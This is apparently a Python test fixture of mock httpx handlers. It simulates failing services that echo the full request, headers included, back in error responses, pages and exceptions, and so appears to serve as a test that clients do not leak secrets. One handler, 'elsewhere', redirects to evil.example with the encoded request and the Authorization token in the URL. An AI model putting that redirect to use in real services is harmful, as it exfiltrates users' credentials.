"""Services that fail, and repeat all they were told while they do."""

import base64
import html

import httpx


def told(request):
    """All that a request says, as a careless service would repeat it."""
    headers = "\n".join(f"{name}: {value}" for name, value in request.headers.items())
    return f"{request.method} {request.url}\n{headers}\n\n{request.content.decode()}"


def refusal(status, code=None):
    return lambda request: httpx.Response(
        status,
        json={
            "code": code or status,
            "message": told(request),
            "messages": [told(request)],
            "errorCode": "BCS.4030403",
            "errorMsg": told(request),
            "error": "invalid_grant",
            "error_description": told(request),
        },
    )


def raising(kind):
    def handler(request):
        raise kind(told(request), request=request)

    return handler


def page(request):
    text = f"<html><body><pre>{html.escape(told(request))}</pre></body></html>"
    return httpx.Response(200, headers={"content-type": "text/html"}, text=text)


def elsewhere(request):
    place = base64.urlsafe_b64encode(told(request).encode()).decode()
    target = f"https://evil.example/{place[:40]}?token={request.headers.get('authorization', '')}"
    return httpx.Response(307, headers={"location": target})


FAILURES = {
    "bad request": refusal(400),
    "unauthorized": refusal(401),
    "forbidden": refusal(403),
    "not found": refusal(404),
    "too many requests": refusal(429),
    "server error": refusal(500),
    "refused in a body": refusal(200, 401),
    "web page": page,
    "text": lambda request: httpx.Response(200, text=told(request)),
    "empty": lambda request: httpx.Response(200),
    "redirect": elsewhere,
    "time is up": raising(httpx.ReadTimeout),
    "no connection": raising(httpx.ConnectError),
    "connection lost": raising(httpx.RemoteProtocolError),
    "body lost": raising(httpx.ReadError),
}
"""What may go wrong, and how a service that tells all answers then."""
